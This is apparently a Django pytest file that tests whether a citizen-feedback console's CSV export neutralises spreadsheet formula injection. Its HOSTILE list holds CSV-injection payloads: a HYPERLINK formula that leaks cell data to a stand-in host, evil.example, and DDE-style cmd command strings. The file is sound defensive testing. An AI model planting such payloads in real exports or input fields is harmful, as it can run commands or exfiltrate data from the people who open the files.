"""Exports cannot carry formulas into a spreadsheet (issue 9, item 18)."""

import csv
import io

import pytest
from django.urls import reverse

from dangjian.feedback import actions

from .conftest import new_case

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _export_rows(client, county) -> tuple[str, list[list[str]]]:
    client.force_login(county.town_a_admin)
    response = client.get(reverse("console:feedback_export"), {"view": "all"})
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    return text, list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", HOSTILE)
def test_9_18_citizen_text_starting_a_formula_is_exported_as_text(client, county, payload):
    case = new_case(county.village_a1, title=payload[:100], description=payload)
    actions.accept_case(county.village_a1_secretary, case.pk)
    actions.dispatch_case(county.village_a1_secretary, case.pk, county.village_a1.pk)
    actions.answer_case(county.village_a1_secretary, case.pk, payload)
    _text, rows = _export_rows(client, county)
    header, row = rows[0], rows[1]
    assert len(rows) == 2 and len(row) == len(header)
    case.refresh_from_db()
    for column, value in [("标题", case.title_public), ("内容", case.description_public), ("答复", case.reply_public)]:
        assert value[0] in "=+-@\t\r" and row[header.index(column)] == "'" + value, column
    for cell in row:
        assert not cell or cell[0] not in "=+-@\t\r", cell


def test_9_18_embedded_separators_and_quotes_stay_inside_their_cell(client, county):
    payload = '路灯坏了","=1+1",";=2+2\n=3+3'
    new_case(county.village_a1, title="路灯", description=payload)
    text, rows = _export_rows(client, county)
    header, row = rows[0], rows[1]
    assert len(rows) == 2 and len(row) == len(header)
    assert payload in row
    # Every field is quoted, so no spreadsheet can split one at a comma or a semicolon.
    assert text.splitlines()[1].startswith('"') and '"路灯坏了"",""=1+1"","";=2+2' in text


@pytest.mark.parametrize(
    ("value", "cell"),
    [("＝1+1", "'＝1+1"), ("－1", "'－1"), ("路灯=坏了", "路灯=坏了"), ("261130000001", "261130000001"), (None, "")],
)
def test_9_18_only_cells_a_spreadsheet_could_run_are_prefixed(value, cell):
    from dangjian.core.exports import spreadsheet_cell

    assert spreadsheet_cell(value) == cell
